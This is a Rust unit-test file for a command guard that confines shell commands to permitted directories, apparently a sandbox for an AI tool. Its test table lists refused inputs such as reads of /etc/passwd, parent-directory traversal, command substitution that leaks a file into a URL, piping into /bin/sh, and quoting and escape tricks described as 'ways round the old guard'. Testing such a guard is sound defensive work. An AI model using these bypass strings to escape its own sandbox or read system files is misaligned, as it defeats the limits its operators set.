use super::*;

fn guard() -> CommandGuard {
    CommandGuard { roots: vec!["/home/me/project".into(), "/skills/deploy".into()] }
}

#[track_caller]
fn check(command: &str, refused_for: &str) {
    let verdict = guard().check(command);
    match refused_for {
        "" => assert_eq!(verdict, Ok(()), "{command}"),
        reason => {
            let message = verdict.expect_err(command);
            assert!(
                message.starts_with("command rejected: ") && message.contains(reason),
                "{command}: {message}"
            );
        }
    }
}

#[test]
fn verdicts() {
    const TILDE: &str = "home directory expansion";
    const PARENT: &str = "parent traversal in";
    const ABSOLUTE: &str = "absolute path";
    for (command, refused_for) in [
        // What axe's users know to be allowed.
        ("cat subdir/file.txt", ""),
        ("cat subdir/../file.txt", ""),
        ("cat file..bak", ""),
        ("cat file~backup", ""),
        ("ls | grep foo", ""),
        ("echo hi > out.txt", ""),
        ("cat $HOME/f", ""),
        ("cat ${HOME}/f", ""),
        ("cat /home/me/project/f", ""),
        ("ls /home/me/project", ""),
        ("sh /skills/deploy/run.sh", ""),
        // And what is refused.
        ("cat /etc/passwd", ABSOLUTE),
        ("cat ../../etc/passwd", PARENT),
        ("cat ~/s", TILDE),
        ("echo x > /tmp/out", ABSOLUTE),
        ("echo x >/tmp/out", ABSOLUTE),
        ("FOO=/etc/passwd cmd", ABSOLUTE),
        ("ls /etc/", ABSOLUTE),
        ("ls /", ABSOLUTE),
        ("echo \"/etc/passwd\"", ABSOLUTE),
        ("echo '/etc/passwd'", ABSOLUTE),
        ("echo `cat /etc/passwd`", ABSOLUTE),
        ("echo $(cat /etc/passwd)", ABSOLUTE),
        // A slash within a word begins no path.
        ("sed 's/a/b/' f", ""),
        ("sed s/a/b/ f", ""),
        ("grep -r x src/", ""),
        ("echo 1/2", ""),
        ("go test ./...", ""),
        ("git diff HEAD..main", ""),
        ("git diff HEAD~1", ""),
        ("curl https://example.com/a/b?c=/d", ""),
        ("curl 'http://example.com/a'", ""),
        ("ls 2>/dev/null", ""),
        ("cmd </dev/null >/dev/stderr", ""),
        // Ways round the old guard.
        ("cat /etc/../etc/passwd", PARENT),
        ("cat \"../../etc/passwd\"", PARENT),
        ("cat '..'/x", PARENT),
        ("cat \"..\"\"/\"x", PARENT),
        ("cd ..;cat x", PARENT),
        ("cd ..&&cat x", PARENT),
        ("(cd ..)", PARENT),
        ("cat <../x", PARENT),
        ("cat ..\\/x", PARENT),
        ("cat /etc/foo..bar", ABSOLUTE),
        ("cat \\/etc/passwd", ABSOLUTE),
        ("cat /dev/../etc/passwd", PARENT),
        ("cat /home/me/project/../other", PARENT),
        ("cat /home/me/project/sub/../f", ""),
        ("cat /home/me/projector/f", ABSOLUTE),
        ("cat $HOME/../other/f", PARENT),
        ("cat $HOME/sub/../f", ""),
        ("cat $X/../../f", PARENT),
        ("cat file:///etc/passwd", ABSOLUTE),
        ("curl http://x/$(cat /etc/passwd)", ABSOLUTE),
        ("cat http://x;cat /etc/passwd", ABSOLUTE),
        ("PATH=a:/bin cmd", ABSOLUTE),
        ("echo x|/bin/sh", ABSOLUTE),
        ("a&/bin/sh", ABSOLUTE),
        // Home directories.
        ("cd ~", TILDE),
        ("cat ~root/x", TILDE),
        ("X=~/y", TILDE),
        ("X=a:~/y", TILDE),
        ("cd ~;ls", TILDE),
        ("ls\n~/x", TILDE),
        ("cat \\~", ""),
        ("cat file\\~/x", ""),
        ("", ""),
    ] {
        check(command, refused_for);
    }
}

#[test]
fn a_climb_that_comes_back_is_allowed() {
    check("cat ../project/f", "");
    check("cat ../../me/project/f", "");
    check("cat ../projector/f", "parent traversal in");
}

#[test]
fn the_root_directory_as_workdir_has_no_outside() {
    let guard = CommandGuard { roots: vec!["/".into()] };
    assert_eq!(guard.check("cat /etc/passwd ../x ~/y"), Ok(()));
}
